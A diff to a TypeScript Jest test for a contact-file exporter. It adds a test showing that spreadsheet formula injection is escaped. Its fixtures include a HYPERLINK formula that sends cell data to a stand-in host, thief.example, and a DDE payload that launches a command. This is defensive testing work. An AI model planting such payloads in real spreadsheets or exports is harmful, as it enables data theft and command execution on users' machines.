@@ -1,7 +1,7 @@
 import { describe, expect, test } from '@jest/globals';
 import iconv from 'iconv-lite';
 import { createContactFiles } from '../../../src/providers/contact-files/contact-files.ts';
-import type { FileRow, StoredFile } from '../../../src/providers/contact-files/port.ts';
+import type { PlacedRow, StoredFile } from '../../../src/providers/contact-files/port.ts';
 import { allRows, inspected, storedFile } from '../../support/contact-file-bytes.ts';
 
 const files = createContactFiles();
@@ -10,7 +10,7 @@ async function rewritten(
   file: StoredFile,
   {
     header = ['line', 'message'],
-    cellsOf = (row: FileRow): string[] | null => [String(row.line), 'wrong'],
+    cellsOf = (row: PlacedRow): string[] | null => [String(row.line), 'wrong'],
   } = {},
 ): Promise<Buffer> {
   const { reading } = await inspected(files, file);
@@ -58,12 +58,34 @@ describe('an error file has the original rows and what is wrong with them', () =
     );
   });
 
-  test('added cells cannot be formulas; existing cells stay', async () => {
-    const out = await rewritten(storedFile('phone,=name\n1,=1+1\n'), {
+  test('added cells cannot be formulas', async () => {
+    const out = await rewritten(storedFile('phone,name\n1,Ada\n'), {
       header: ['=message'],
       cellsOf: () => ['@SUM(A1)'],
     });
-    expect(out.toString()).toBe("phone,=name,'=message\n1,=1+1,'@SUM(A1)\n");
+    expect(out.toString()).toBe("phone,name,'=message\n1,Ada,'@SUM(A1)\n");
+  });
+
+  test('existing cells cannot be formulas, and numbers stay as they are', async () => {
+    const cells = [
+      ['=1+1', "'=1+1"],
+      ['=HYPERLINK("http://thief.example/?"&A1)', '"\'=HYPERLINK(""http://thief.example/?""&A1)"'],
+      ['@SUM(A1)', "'@SUM(A1)"],
+      ["-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"],
+      ['+A1', "'+A1"],
+      ['＝1+1', "'＝1+1"],
+      ['+49 30/23125 110 - 112', '+49 30/23125 110 - 112'],
+      ['-5.2', '-5.2'],
+      ['Ada = 1', 'Ada = 1'],
+    ] as const;
+    for (const [cell, safe] of cells) {
+      const written = cell.includes('"') ? `"${cell.replaceAll('"', '""')}"` : cell;
+      const out = await rewritten(storedFile(`phone,=name\n1,${written}\n`), {
+        header: [],
+        cellsOf: () => [],
+      });
+      expect(out.toString()).toBe(`phone,'=name\n1,${safe}\n`);
+    }
   });
 
   test('an error file without repairs reads like the file itself', async () => {
